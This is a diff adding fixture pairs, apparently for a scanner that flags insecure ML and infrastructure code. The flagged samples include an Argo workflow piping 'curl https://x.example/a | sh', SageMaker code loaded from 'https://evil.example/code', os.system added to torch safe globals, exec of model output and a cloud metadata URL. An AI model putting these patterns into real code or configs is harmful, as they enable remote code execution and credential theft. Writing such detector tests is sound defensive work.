@@ -145,6 +145,7 @@ COD = {
         py("import requests\nrequests.get('https://x')\n"),
     ),
     "COD-015": (py("out = model.generate(x)\nexec(out)\n"), py("out = model.generate(x)\nprint(out)\n")),
+    "COD-017": (py(f"key = '{KEY}'\n"), py("key = 'AKIA-goes-here-in-production'\n")),
     "COD-018": (
         py("import torch, os\ntorch.serialization.add_safe_globals([os.system])\n"),
         py("import torch\ntorch.serialization.add_safe_globals([Config])\n"),
@@ -259,9 +260,14 @@ MLO = {
         {"flow.yaml": b"apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nspec: {templates: [{name: a, script: {source: 'curl https://x.example/a | sh'}}]}\n"},
         {"flow.yaml": b"apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nspec: {templates: [{name: a, script: {source: 'python train.py'}}]}\n"},
     ),
+    "MLO-009": (py("import sagemaker\nsagemaker.Model(source_dir='https://evil.example/code')\n"), py("import sagemaker\nsagemaker.Model(source_dir='./code')\n")),
     "MLO-010": (
         pod(env=[{"name": "MODEL", "value": "models:/fraud/Production"}]),
         pod(env=[{"name": "MODEL", "value": "models:/fraud/7"}]),
+    ),
+    "MLO-012": (
+        pod(command=["python", "convert_hf_to_gguf.py"], env=[{"name": "T", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}]),
+        pod(command=["python", "convert_hf_to_gguf.py"], env=[{"name": "MODE", "value": "fast"}]),
     ),
     "MLO-013": (pod(env=[{"name": "A", "value": "http://169.254.169.254/latest"}]), pod(env=[{"name": "A", "value": "https://tracking.example"}])),
     "MLO-015": (compose(image=f"vllm@{DIGEST}", command=["--model", "a", "--trust-remote-code"]), compose(image=f"vllm@{DIGEST}", command=["--model", "a"])),
